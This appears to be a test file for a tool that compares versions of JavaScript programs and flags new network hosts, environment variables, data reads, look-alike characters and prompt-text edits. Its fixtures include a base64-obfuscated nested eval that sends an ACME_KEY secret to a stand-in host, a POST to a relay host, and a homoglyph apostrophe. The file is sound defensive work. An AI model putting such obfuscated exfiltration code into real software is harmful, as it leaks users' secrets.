import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { comparePrograms } from "../../../src/static/versions/compare-programs.ts";
import { programOf } from "./made-up.ts";

const rest = `function quiet(a){return a.map((b)=>b.c*2)} function say(t){return process.stdout.write(t)}`;

function compare(before: string, after: string) {
  return comparePrograms(programOf(`${rest}${before}`), programOf(`${rest}${after}`));
}

describe("a newer version is told by what of it touches the world", () => {
  test("nothing, where only names and forms differ", () => {
    const { changes, functions, prose } = compare(
      "function f(a){if(a){return 1}return 2}",
      "const g=(z)=>z?1:2",
    );
    assert.deepEqual(changes, []);
    assert.deepEqual(prose, []);
    assert.deepEqual(functions, { matched: 4, same: 4, changed: 0, new: 0, gone: 0 });
  });

  test("code that is kept in texts is compared as well, however deep it is kept", () => {
    const inner = 'fetch("https://deep.example/" + process.env.ACME_KEY)';
    const { hosts, variables, changes } = compare(
      'eval("console.log(1)")',
      `eval(Buffer.from("${Buffer.from(`new Function(${JSON.stringify(`eval(${JSON.stringify(inner)})`)})()`).toString("base64")}", "base64").toString());
       new Worker(${JSON.stringify(inner.replace("deep", "worker"))}, { eval: true });`,
    );
    assert.deepEqual(hosts.new, ["deep.example", "worker.example"]);
    assert.deepEqual(variables.new, ["ACME_KEY"]);
    assert.ok(changes.some(({ code }) => code.some(({ text }) => text.trim() === inner)));
  });

  test("a source that is read anew, with the line that reads it", () => {
    const { changes } = compare(
      'function f(a){a.title="x";return a.send("start",a.title)}',
      'function f(a){a.title="x";a.zone=Intl.DateTimeFormat().resolvedOptions().timeZone;return a.send("start",a.title)}',
    );
    assert.equal(changes.length, 1);
    assert.equal(changes[0]?.change, "changed");
    assert.deepEqual(changes[0]?.gained, ["timezone"]);
    assert.deepEqual(
      changes[0]?.code.filter(({ sign }) => sign === "+").map(({ text }) => text.trim()),
      ["a.zone=Intl.DateTimeFormat().resolvedOptions().timeZone;"],
    );
    assert.deepEqual(
      changes[0]?.code.filter(({ sign }) => sign === "-"),
      [],
    );
  });

  test("new hosts and variables by name, and the function that has them first", () => {
    const { hosts, variables, changes } = compare(
      "",
      'function post(b){return fetch(process.env.RELAY_URL??"https://relay.example.net/v1",{method:"POST",body:b})} function calm(x){return x.y.z.map((a)=>a.b)}',
    );
    assert.deepEqual(hosts, { new: ["relay.example.net"], gone: [] });
    assert.deepEqual(variables, { new: ["RELAY_URL"], gone: [] });
    assert.equal(changes[0]?.name, "post");
    assert.deepEqual(changes[0]?.gained, ["env", "request", "host"]);
    assert.ok((changes[0]?.rank ?? 0) > 0);
    assert.deepEqual(
      changes.slice(1).map(({ name, rank }) => [name, rank]),
      [
        ["calm", 0],
        ["calm › (unnamed)", 0],
      ],
    );
  });

  test("a look-alike apostrophe put into a text", () => {
    const { characters, changes } = compare(
      'function f(d){return "Today\'s date is "+d}',
      'function f(d){return "Today\u02bcs date is "+d}',
    );
    assert.equal(characters.new.length, 1);
    assert.match(characters.new[0] ?? "", /U\+02BC/);
    assert.deepEqual(changes[0]?.gained, ["character"]);
  });

  test("a call of another function in the place of one, though the normal form is the same", () => {
    const both = `function plain(t){return t.split("-").map((each)=>each.trim())}
      function telling(t){return t+process.env.USER+"/"+t.length}
      function also(t){return [plain(t.a),telling(t.b),"both"]}`;
    const { changes } = compare(
      `${both}function send(m){return m.body.write(plain(m.text))}`,
      `${both}function send(m){return m.body.write(telling(m.text))}`,
    );
    assert.deepEqual(
      changes.map(({ name, gained }) => [name, gained]),
      [["send", ["username", "env"]]],
    );
    assert.match(changes[0]?.code[1]?.text ?? "", /^uses telling/);
  });

  test("a version number in many places is one change", () => {
    const at = (version: string) =>
      Array.from(
        { length: 5 },
        (_, n) => `function f${n}(a){return a.k${n}("agent/${version}")}`,
      ).join("");
    const { changes } = compare(at("1.0.0"), at("1.0.1"));
    assert.deepEqual(
      changes.map(({ alike }) => alike),
      [5],
    );
  });

  test("prompts as text, with what is put into them", () => {
    const prompt = (rule: string) =>
      `function p(t){return \`You are an agent that helps the user with code. Use the tools that you are given and never guess. The user works in \${t}. ${rule} Always answer in plain sentences and say what you did and what you left out.\`}`;
    const { prose } = compare(
      prompt("Do not mention other tools."),
      prompt("Do mention other tools."),
    );
    assert.equal(prose.length, 1);
    assert.equal(prose[0]?.prompt, true);
    assert.deepEqual(
      prose[0]?.lines.filter(({ sign }) => sign !== " "),
      [
        { sign: "-", text: "Do not mention other tools." },
        { sign: "+", text: "Do mention other tools." },
      ],
    );
    assert.ok(prose[0]?.lines.some(({ text }) => text.includes("${…}")));
  });

  test("a text that is a declaration of its own, among the texts alone", () => {
    const rules = (end: string) =>
      `const rules="You are an agent that helps the user with code in this folder. Use the tools that you are given, never guess, and answer in plain sentences. Say what you did and what you left out, and ${end}"`;
    const { prose, changes } = compare(rules("stop there."), rules("do not stop."));
    assert.deepEqual(changes, []);
    assert.equal(prose.length, 1);
  });

  test("a file that is no JavaScript is named and the rest compared", () => {
    const table = programOf("function a(){return 1}", "function (");
    assert.equal(table.refused.length, 1);
    assert.equal(table.refused[0]?.path, "b.js");
    assert.equal(comparePrograms(table, table).functions.same, 1);
  });
});
